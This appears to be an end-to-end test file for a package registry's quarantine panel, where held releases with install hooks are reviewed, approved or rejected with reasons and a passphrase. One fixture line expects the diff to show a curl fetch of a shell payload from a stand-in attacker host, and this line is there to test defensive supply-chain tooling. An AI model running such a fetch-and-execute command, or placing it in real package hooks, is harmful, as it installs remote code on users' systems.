import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { hashPassword } from "../../src/access/password.ts";
import { hasNode, isInstalled, lockedIn, startWorld } from "../clients/client.ts";
import { startRegistry, type TestRegistry } from "../support/registry.ts";
import { hookFiles, hookManifest, recordOf } from "../support/review.ts";
import { openPanel } from "./browser.ts";

const timeout = 120_000;

const rowOf = (page: Page, label: string) =>
  page.getByRole("checkbox", { name: `Select ${label}` });
const said = (page: Page, text: string | RegExp) =>
  page.getByRole("status").filter({ hasText: text });

async function hold(registry: TestRegistry, name: string): Promise<void> {
  const held = await registry.publish(name, "1.0.0", hookFiles, { manifest: hookManifest });
  expect(held.status).toBe(403);
}

describe.skipIf(!hasNode)("a held release that an install waits for", { timeout }, () => {
  test("appears by itself, is read and approved with the keyboard, and then installs", async () => {
    await using world = await startWorld();
    const { registry, upstream } = world;
    upstream.add("setup-tool", "1.0.0", { "index.js": "1;\n" });
    upstream.add("setup-tool", "1.1.0", hookFiles, { manifest: hookManifest });
    await using visit = await openPanel(registry, { hash: "#/quarantine" });
    const { page } = visit;
    await page.getByText("Nothing waits for a decision").waitFor();

    const project = world.project();
    await world.npmOk(["install", "setup-tool@1.0.0"], project);
    const install = ["install", "setup-tool@1.1.0", "--ignore-scripts"];
    const held = await world.npm(install, project);
    expect(held.code).toBe(1);
    expect(held.stderr).toContain("setup-tool@1.1.0");

    await rowOf(page, "setup-tool@1.1.0").waitFor();
    await said(page, "setup-tool@1.1.0 is held since just now").waitFor({ state: "attached" });
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { level: 1, name: "setup-tool@1.1.0" }).waitFor();
    const record = page.getByRole("main");
    await record.getByRole("heading", { name: /INS-01.*runs what it downloads/ }).waitFor();
    await record.getByRole("button", { name: "Compare with 1.0.0" }).click();
    await record.getByText("curl -s https://attacker.invalid/payload-7f3a.sh").first().waitFor();

    await page.keyboard.press("a");
    await page.keyboard.type("read the script, it is our own mirror");
    await page.keyboard.press("Tab");
    const approve = page.getByRole("button", { name: "Approve", exact: true });
    for (let at = 0; at < 10 && !(await approve.evaluate(isFocused)); at++) {
      await page.keyboard.press("Tab");
    }
    await page.keyboard.press("Enter");
    await said(page, "Approved setup-tool@1.1.0").waitFor();

    await world.npmOk(install, project);
    expect(lockedIn(project, "setup-tool").version).toBe("1.1.0");
    expect(isInstalled(project, "setup-tool/setup.sh")).toBe(true);
    const [approved] = JSON.parse(
      (await world.cli("quarantine", "list", "--state", "approved", "--json")).stdout,
    ) as object[];
    expect(approved).toMatchObject({
      name: "setup-tool",
      version: "1.1.0",
      ruling: { reason: "read the script, it is our own mirror", person: "owner" },
    });
  });
});

describe("a decision in the panel", { timeout }, () => {
  test("rejects a release for good, with its reason", async () => {
    await using registry = await startRegistry();
    const { url } = registry.listen();
    await hold(registry, "@acme/hook");
    await using visit = await openPanel({ url, token: registry.token }, { hash: "#/quarantine" });
    const { page } = visit;
    await page.getByRole("link", { name: "@acme/hook@1.0.0" }).click();
    await page.getByRole("radio", { name: /^Reject/ }).check();
    await page.getByRole("textbox", { name: /^Reason/ }).fill("it downloads a program");
    await page.getByRole("button", { name: "Reject", exact: true }).click();
    await said(page, "Rejected @acme/hook@1.0.0").waitFor();
    await page.getByText("Nothing waits for a decision").waitFor();

    expect(await recordOf(registry, "@acme/hook@1.0.0")).toMatchObject({
      state: "rejected",
      ruling: { reason: "it downloads a program", person: "owner" },
    });
    expect((await registry.tarball("@acme/hook", "1.0.0")).status).toBe(403);
  });

  test("is not made without a reason", async () => {
    await using registry = await startRegistry();
    const { url } = registry.listen();
    await hold(registry, "hook");
    await using visit = await openPanel({ url, token: registry.token }, { hash: "#/quarantine" });
    const { page } = visit;
    await page.getByRole("link", { name: "hook@1.0.0" }).click();
    await page.getByRole("radio", { name: /^Approve/ }).check();
    await page.getByRole("button", { name: "Approve", exact: true }).click();

    const reason = page.getByRole("textbox", { name: /^Reason/ });
    expect(await reason.evaluate((field: HTMLTextAreaElement) => field.validity.valid)).toBe(false);
    expect((await recordOf(registry, "hook@1.0.0")).state).toBe("held");
  });

  test("takes the approval passphrase where one is set, once for as long as the page is open", async () => {
    const passphrase = "a phrase that no program knows";
    const hash = await hashPassword(passphrase);
    await using registry = await startRegistry({ config: { approval: { passphrase: hash } } });
    const { url } = registry.listen();
    for (const name of ["one", "two"]) await hold(registry, name);
    await using visit = await openPanel({ url, token: registry.token }, { hash: "#/quarantine" });
    const { page } = visit;
    const approve = async (name: string) => {
      await page.getByRole("link", { name: `${name}@1.0.0` }).click();
      await page.getByRole("radio", { name: /^Approve/ }).check();
      await page.getByRole("textbox", { name: /^Reason/ }).fill("ours");
      await button.click();
    };
    const button = page.getByRole("button", { name: "Approve", exact: true });
    const field = page.getByRole("textbox", { name: "Approval passphrase" });

    await approve("one");
    await field.fill("another phrase");
    await button.click();
    await page.getByRole("alert").getByText("not the approval passphrase").waitFor();
    expect((await recordOf(registry, "one@1.0.0")).state).toBe("held");
    await field.fill(passphrase);
    await button.click();
    await said(page, "Approved one@1.0.0").waitFor();

    await page.goto(`${url}/-/admin#/quarantine`);
    await approve("two");
    await said(page, "Approved two@1.0.0").waitFor();
    expect((await registry.tarball("two", "1.0.0")).status).toBe(200);
  });

  test("is seen by every tab that shows the list", async () => {
    await using registry = await startRegistry();
    const { url } = registry.listen();
    for (const name of ["one", "two", "three"]) await hold(registry, name);
    await using visit = await openPanel({ url, token: registry.token }, { hash: "#/quarantine" });
    const { page } = visit;
    const other = await visit.context.newPage();
    await other.goto(`${url}/-/admin#/quarantine`);
    for (const name of ["one", "two", "three"]) await rowOf(other, `${name}@1.0.0`).waitFor();

    for (const name of ["one", "three"]) await rowOf(page, `${name}@1.0.0`).check();
    await page.getByRole("button", { name: "Approve…" }).click();
    const dialog = page.getByRole("dialog");
    await dialog.getByRole("textbox", { name: /Reason/ }).fill("all of them are ours");
    await dialog.getByRole("button", { name: /^Approve/ }).click();

    for (const tab of [page, other]) {
      for (const name of ["one", "three"]) {
        await rowOf(tab, `${name}@1.0.0`).waitFor({ state: "detached" });
      }
      await rowOf(tab, "two@1.0.0").waitFor();
    }
    expect((await registry.tarball("one", "1.0.0")).status).toBe(200);
    expect((await registry.tarball("two", "1.0.0")).status).toBe(403);
  });
});

function isFocused(element: Element): boolean {
  return element === document.activeElement;
}
